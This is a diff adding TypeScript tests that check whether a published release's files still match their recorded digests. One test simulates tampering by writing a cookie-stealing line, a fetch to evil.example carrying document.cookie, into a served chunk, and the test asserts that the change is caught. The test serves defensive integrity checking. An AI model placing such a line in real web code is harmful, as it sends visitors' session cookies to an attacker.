@@ -138,6 +138,45 @@ describe('the checks before a release goes live', () => {
     }
   });
 
+  /** The release's one file under `folder`: its fake build has one chunk and one style sheet. */
+  const fileUnder = (files: Record<string, string>, folder: string) =>
+    Object.keys(files).find((path) => path.startsWith(folder)) ?? '';
+
+  it.each([
+    ['a chunk of an exposed module', fileUnder(v2, 'static/js/async/')],
+    ['a style sheet', fileUnder(v2, 'static/css/async/')],
+  ])('refuse %s changed on the release host after publishing, naming it', async (_what, path) => {
+    const url = `${base}gallery/2.0.0-bbb/`;
+    const record = fakeReleaseRecord(v2, url, '2.0.0-bbb');
+    expect(record.integrity[path]).toBeDefined();
+    const file = join(store.root, 'gallery/2.0.0-bbb', path);
+    writeFileSync(file, 'fetch("https://evil.example/?" + document.cookie)');
+    try {
+      expect(await releaseProblems('gallery', record)).toEqual([
+        `${path} as served does not match its recorded digest ${record.integrity[path]}`,
+      ]);
+    } finally {
+      writeFileSync(file, v2[path] ?? '');
+    }
+  });
+
+  it('refuse a release whose manifest names a file with no recorded digest, naming it', async () => {
+    // a record written before every file was recorded: only its manifest, entry and view
+    const url = `${base}gallery/1.0.0-aaa/`;
+    const full = fakeReleaseRecord(v1, url, '1.0.0-aaa');
+    const chunk = fileUnder(v1, 'static/js/async/');
+    const styles = fileUnder(v1, 'static/css/async/');
+    const record = {
+      ...full,
+      integrity: Object.fromEntries(
+        Object.entries(full.integrity).filter(([path]) => path !== chunk && path !== styles),
+      ),
+    };
+    expect(await releaseProblems('gallery', record)).toEqual([
+      `its manifest names files with no recorded digest, which nothing would check (publish it again with this build tooling): ${chunk}, ${styles}`,
+    ]);
+  });
+
   it('name a file whose compressed copy holds other bytes than the file itself', async () => {
     const url = `${base}gallery/1.0.0-aaa/`;
     const entry = join(store.root, 'gallery/1.0.0-aaa/static/js/gallery.v1.js.br');
